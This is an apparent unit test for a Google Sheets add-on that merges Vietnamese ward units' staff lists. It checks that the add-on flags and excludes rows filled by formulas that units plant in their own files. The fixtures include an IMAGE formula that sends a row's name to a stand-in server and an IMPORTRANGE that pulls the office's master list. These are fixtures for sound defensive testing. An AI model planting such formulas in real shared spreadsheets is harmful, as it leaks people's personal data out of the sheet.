/**
 * Issue 25, part 2, on Google's side: a unit's staff plant formulas where the list is typed. An IMPORTRANGE
 * waiting for the office's "Allow access", an IMAGE that would send a row to a server, an ARRAYFORMULA that
 * fills rows from a spare tab: none of those rows is counted, each formula is named (unit, sheet, cell,
 * function), the spare tab is named, and nothing the formulas computed reaches the office's master list.
 */
import { MASTER, MASTER_COL } from '../../src/core/report-layout';
import { sheetTags, sheetsByRole } from '../../src/gas/sheet-utils';
import { threeUnits, wardOfFiles } from '../support/ward-files';

const units = threeUnits();
const school = units.find((u) => u.code === 'THCS-LTV')!;
const tdp1 = units.find((u) => u.code === 'TDP01')!;

function masterCells(ward: ReturnType<typeof wardOfFiles>): unknown[][] {
  const master = sheetsByRole(sheetTags(ward.workbook)).get('master')!;
  return master
    .getRange(MASTER.firstDataRow, 1, master.getLastRow() - MASTER.firstDataRow + 1, MASTER.columns)
    .getValues();
}

describe('a unit plants formulas in its own file', () => {
  const ward = wardOfFiles(units);
  expect(ward.addOn.setupUnits().ok).toBe(true);
  const officeId = ward.workbook.getId();
  // The school's staff: three people typed, then an IMPORTRANGE of the office's master list on row 11, and a
  // typed row whose Ghi chú sends its name to a server.
  ward.typeInto(school, [
    ['Nguyễn Văn An', '1980', '', 'Tổ dân phố số 1'],
    ['Trần Thị Bình', '1982', '', 'Tổ dân phố số 1'],
    ['Lê Văn Cường', '1975', '', 'Tổ dân phố số 2'],
    [`=IMPORTRANGE("${officeId}";"Danh sách tổng hợp!A:K")`, '', '', ''],
    ['Phạm Văn Dũng', '1990', '', 'Tổ dân phố số 2', '=IMAGE("https://thu.example/?"&B12)'],
  ]);
  // TDP01's staff: two people typed, then a spare tab whose names an ARRAYFORMULA pours into the list.
  ward.typeInto(tdp1, [
    ['Đỗ Thị Em', '1970', '', 'Tổ dân phố số 1'],
    ['Vũ Văn Giang', '1966', '', 'Tổ dân phố số 1'],
  ]);
  ward.asStaff(tdp1, (file) => {
    const spare = file.insertSheet('Nguồn', 1);
    spare.getRange(1, 1, 3, 4).setValues([
      ['Hoàng Văn Khánh', 1981, '', 'Tổ dân phố số 1'],
      ['Hoàng Thị Lan', 1983, '', 'Tổ dân phố số 1'],
      ['Hoàng Văn Minh', 2001, '', 'Tổ dân phố số 1'],
    ]);
    file.getSheets()[0].getRange('B10').setValue(`=ARRAYFORMULA('Nguồn'!A1:D3&"")`);
  });
  const result = ward.addOn.consolidate();

  it('counts only the rows typed as values', () => {
    const figures = Object.fromEntries(result.units.map((u) => [u.code, [u.rows, u.valid, u.errors]]));
    expect(figures['THCS-LTV']).toEqual([5, 3, 2]);
    expect(figures.TDP01).toEqual([5, 2, 3]);
    expect(result.ward.uniquePeople).toBe(5);
  });

  it('names every formula: unit, sheet, cell and function', () => {
    expect(result.formulaCells).toEqual([
      { unit: 'THCS-LTV', sheet: school.name, cell: 'B11', function: 'IMPORTRANGE' },
      { unit: 'THCS-LTV', sheet: school.name, cell: 'F12', function: 'IMAGE' },
      { unit: 'TDP01', sheet: tdp1.name, cell: 'B10', function: 'ARRAYFORMULA' },
    ]);
    expect(result.otherSheets).toEqual([{ unit: 'TDP01', sheet: 'Nguồn' }]);
    expect(result.message).toContain('B11 (IMPORTRANGE)');
    expect(result.message).toContain('"Nguồn"');
    expect(result.message).toContain('Không bao giờ bấm "Cho phép truy cập"');
  });

  it('writes nothing the formulas computed into the master list, and says why each row is not counted', () => {
    const rows = masterCells(ward);
    const text = JSON.stringify(rows);
    for (const name of ['Hoàng Văn Khánh', 'Hoàng Thị Lan', 'Hoàng Văn Minh'])
      expect(text).not.toContain(name);
    const status = (unit: string, row: number) =>
      String(
        rows.find(
          (r) => r[MASTER_COL.unitCode - 1] === unit && String(r[MASTER_COL.source - 1]).endsWith(` ${row}`)
        )?.[MASTER_COL.status - 1]
      );
    expect(status('THCS-LTV', 11)).toContain('Ô B11 là công thức (IMPORTRANGE)');
    expect(status('THCS-LTV', 12)).toContain('Ô F12 là công thức (IMAGE)');
    expect(status('TDP01', 11)).toContain('công thức ở ô B10 điền vào');
    expect(status('TDP01', 8)).toBe('Hợp lệ');
  });

  it('shows the unit the same rows as errors in Kiểm tra dữ liệu', () => {
    const check = ward.addOn.checkData({ unit: 'TDP01' }) as { problems: { row: number; code: string }[] };
    const codes = check.problems.filter((p) => p.code.startsWith('FORMULA')).map((p) => [p.row, p.code]);
    expect(codes).toEqual([
      [10, 'FORMULA_CELL'],
      [11, 'FORMULA_FILLED'],
      [12, 'FORMULA_FILLED'],
    ]);
  });
});
